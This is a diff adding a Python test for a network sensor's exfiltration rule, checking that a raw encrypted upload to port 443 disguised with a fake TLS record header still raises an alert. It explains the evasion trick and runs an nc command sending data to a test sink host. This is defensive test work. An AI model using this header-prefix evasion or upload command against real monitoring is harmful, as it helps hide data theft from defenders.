@@ -1,0 +1,63 @@
+"""A raw encrypted stream to port 443 dressed as TLS with five bytes.
+
+TLS on 443 is expected traffic, so SL-EXF-002 speaks about port 443 only
+when the stream is not TLS. The sensor named a socket TLS when its first
+bytes looked like any TLS record header, so an intruder who read that put
+`17 03 03 40 00` (application data, 16 KiB) in front of its ciphertext and
+the upload passed for TLS: no alert. Every TLS connection starts with a
+hello in a handshake record; now only that names a socket TLS.
+
+Beside it, a real TLS upload (openssl s_client, a TLS 1.3 ClientHello) to
+the same port from another container stays TLS: no SL-EXF-002 for it."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+from emulation.scenarios import S_CLIENT
+from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container
+
+UPLOAD = 3_000_000
+# application data, TLS 1.2, 16,384 bytes: a record header, in octal for
+# busybox printf
+FAKE_HEADER = r"\027\003\003\100\000"
+
+
+def _exf2(d: dict[str, Any], cid: str) -> bool:
+    return d["event"]["kind"] == "alert" and d.get("rule", {}).get("id") == "SL-EXF-002" and cid_of(d) == cid
+
+
+def test_a_tls_record_header_does_not_pass_a_raw_stream_for_tls(base: Path, docker: Docker, net: SinkNet) -> None:
+    s = SensorProc(base, docker.sock, name="tlslook")
+    s.start()
+    try:
+        real = run_container(
+            docker,
+            net,
+            f"(openssl rand {UPLOAD}; sleep 2) | {S_CLIENT} -connect {SINK_IP}:443 >/dev/null 2>&1",
+            wait=True,
+        )
+        fake = run_container(
+            docker, net, f"{{ printf '{FAKE_HEADER}'; openssl rand {UPLOAD}; }} | nc -w 5 {SINK_IP} 443", wait=True
+        )
+        a = s.wait_for(lambda d: _exf2(d, fake), what="SL-EXF-002 for the dressed-up stream", timeout=20)
+        ev = a["sluice"]["evidence"]
+        assert ev["kind"] == "raw_encrypted_stream" and ev["protocol_hint"] is None, ev
+        assert ev["bytes"] >= UPLOAD // 2, ev
+        assert a["destination"]["port"] == 443
+        # the sink got the stream (the kernel let it out; the alert is the answer)
+        got = [r for r in net.received() if r.get("proto") == "tcp" and r.get("port") == 443]
+        assert any(r["bytes"] >= UPLOAD for r in got), got
+        # the real TLS upload: named TLS, no SL-EXF-002
+        flows = [
+            d
+            for d in s.docs()
+            if d["event"]["action"] == "flow_summary" and cid_of(d) == real and d["destination"]["port"] == 443
+        ]
+        assert flows, "no flow summary for the real TLS upload"
+        assert sum(d["source"]["bytes"] for d in flows) >= UPLOAD
+        assert not [d for d in s.docs() if _exf2(d, real)], "a real TLS upload to 443 raised SL-EXF-002"
+        assert {f["network"].get("protocol") for f in flows} >= {"tls"}, [f["network"] for f in flows]
+    finally:
+        assert s.stop() == 0, s.stderr_text()
